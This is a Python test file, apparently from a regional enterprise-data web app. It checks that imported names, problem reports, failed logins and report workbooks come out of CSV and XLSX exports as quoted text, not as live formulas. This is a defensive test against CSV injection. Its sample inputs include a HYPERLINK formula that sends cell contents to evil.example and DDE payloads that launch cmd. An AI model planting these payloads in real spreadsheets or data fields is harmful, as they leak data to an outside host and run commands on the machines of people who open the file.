"""No exported cell can carry a formula: hostile names go in through imports, problems and logins,
and come back out of every CSV and XLSX export as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from gaodi.access.accounts import create_user
from gaodi.api import ApiSettings, create_app
from gaodi.core import Gaodi
from gaodi.demo.population import make_uscc
from gaodi.ingest.importer import ImportOptions
from gaodi.exports import neutralise, neutralise_frame
from gaodi.reports.model import Column, Report, Section, Table
from gaodi.reports.xlsx_writer import write_xlsx

from . import province

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1)"
DASH = "-2+3+cmd|' /C calc'!A0"
USCC = [make_uscc("430104", 901), make_uscc("430104", 902)]
HOSTILE = (HYPERLINK, CMD, SUM, DASH, "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+3", "1e5", "-0.5e-3", -7, -7.25, 0, None, "企业A", "a=b"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["'=x", "=x", "'plain", "''+1"])
def test_already_quoted_text_gets_one_more_quote_so_that_import_restores_it_exactly(value):
    """The import reads one leading quote before a risky character as the export's marker (gaodi.exports)."""
    from gaodi.exports import restore

    assert restore(neutralise(value)) == value
    assert neutralise("'=x") == "''=x"


def test_a_frame_keeps_numeric_columns_numeric():
    import pandas as pd

    frame = neutralise_frame(pd.DataFrame({"name": [HYPERLINK, "ok"], "value": [-5.0, 3.0]}))
    assert list(frame.name) == ["'" + HYPERLINK, "ok"] and frame.value.dtype == float


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A workspace with one park, two enterprises with formula names, a province and a city account."""
    folder = tmp_path_factory.mktemp("hostile")
    g = Gaodi.open(home=folder / "ws", in_memory=True)
    g.import_file("parks", province.write(folder / "parks.csv", ["park_id", "name", "level", "region_code"],
                                          [("PA", "甲园区", "国家级", "430104")]))
    for username, role, value in (("admin", "admin", None), ("prov", "province", None), ("cs", "city", "430100")):
        create_user(g.store, username, province.PASSWORD, role, value)
    client = TestClient(create_app(g, ApiSettings(login_attempts=1000, serve_ui=False)))
    tokens = {u: {"Authorization": "Bearer " + client.post("/api/auth/login", json={
        "username": u, "password": province.PASSWORD}).json()["access_token"]} for u in ("admin", "prov", "cs")}
    yield g, client, tokens, folder
    g.close()


def _no_formula(body: bytes) -> list[str]:
    """Every text cell of an XLSX body; fails when any cell is a formula."""
    wb = load_workbook(io.BytesIO(body))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def test_hostile_names_imported_come_back_as_text_in_every_export(hostile):
    g, client, tokens, folder = hostile
    uscc = USCC
    path = province.write(folder / "hostile.csv", ["uscc", "name", "region_code", "park_id", "industry_code"],
                          [(uscc[0], HYPERLINK, "430104", "PA", "3741"), (uscc[1], DASH, "430104", "", "3511")])
    with open(path, "rb") as fh:
        r = client.post("/api/imports/enterprises", files={"file": ("hostile.csv", fh, "text/csv")},
                        headers=tokens["admin"])
    assert r.status_code == 200, r.text
    g.import_file("statistics", province.write(folder / "stats.csv", ["uscc", "period", "revenue(万元)"],
                                               [(uscc, "2025", 100 * i) for i, uscc in enumerate(USCC, 1)]))
    xlsx = client.get("/api/enterprises", params={"format": "xlsx"}, headers=tokens["prov"])
    assert xlsx.status_code == 200, xlsx.text
    assert {"'" + HYPERLINK, "'" + DASH} <= set(_no_formula(xlsx.content))
    cells = _csv_cells(client.get("/api/enterprises", params={"format": "csv"}, headers=tokens["prov"]).content)
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells

    filed = client.post("/api/problems", headers=tokens["cs"], json={
        "uscc": uscc[0], "title": CMD, "description": SUM, "category": "用地"})
    assert filed.status_code == 201, filed.text
    problems = client.get("/api/problems", params={"format": "xlsx"}, headers=tokens["prov"])
    texts = _no_formula(problems.content)
    assert "'" + CMD in texts and "'" + HYPERLINK in texts
    assert "'" + CMD in _csv_cells(client.get("/api/problems", params={"format": "csv"},
                                              headers=tokens["prov"]).content)


def test_a_failed_login_named_like_a_formula_is_text_in_the_audit_sheet(hostile):
    _, client, tokens, _ = hostile
    assert client.post("/api/auth/login", json={"username": SUM, "password": "x" * 8}).status_code == 401
    sheet = client.get("/api/audit", params={"format": "xlsx"}, headers=tokens["admin"])
    assert "'" + SUM in _no_formula(sheet.content)
    assert "'" + SUM in _csv_cells(client.get("/api/audit", params={"format": "csv"}, headers=tokens["admin"]).content)


def test_rejected_rows_and_the_problem_report_are_neutralised(hostile):
    g, _, _, folder = hostile
    path = province.write(folder / "bad.csv", ["uscc", "name", "region_code", "industry_code"],
                          [("not-a-code", "=1+1", "@bad", "3741")])
    result = g.import_file("enterprises", path, ImportOptions(skip_invalid=True))
    written = []
    for attr in ("report_path", "quarantine_path"):
        target = getattr(result, attr, None)
        if target:
            written += _csv_cells(open(target, "rb").read())
    assert written, "the import wrote neither a problem report nor a quarantine file"
    assert not [c for c in written if c[:1] in "=+@\t\r" or (c[:1] == "-" and neutralise(c) != c)]
    assert "'=1+1" in written


def test_report_workbooks_write_text_not_formulas(tmp_path):
    table = Table("=表题", [Column("企业"), Column("营收", "num1")], [[HYPERLINK, -12.5], [CMD, 3.0]], "表1")
    report = Report("monitor", "=标题", "", "@发布单位", "", dt.date(2026, 1, 1), "2025",
                    [Section("+一、概况", [table])], Section("附录"))
    body = write_xlsx(report, tmp_path / "r.xlsx").read_bytes()
    texts = _no_formula(body)
    assert "'" + HYPERLINK in texts and "'" + CMD in texts
    ws = load_workbook(tmp_path / "r.xlsx")["表1"]
    assert ws["B3"].value == -12.5 and ws["B3"].data_type == "n"


def test_the_checker_itself_sees_a_live_formula(tmp_path):
    wb = Workbook()
    wb.active["A1"] = HYPERLINK
    wb.save(tmp_path / "f.xlsx")
    with pytest.raises(AssertionError):
        _no_formula((tmp_path / "f.xlsx").read_bytes())
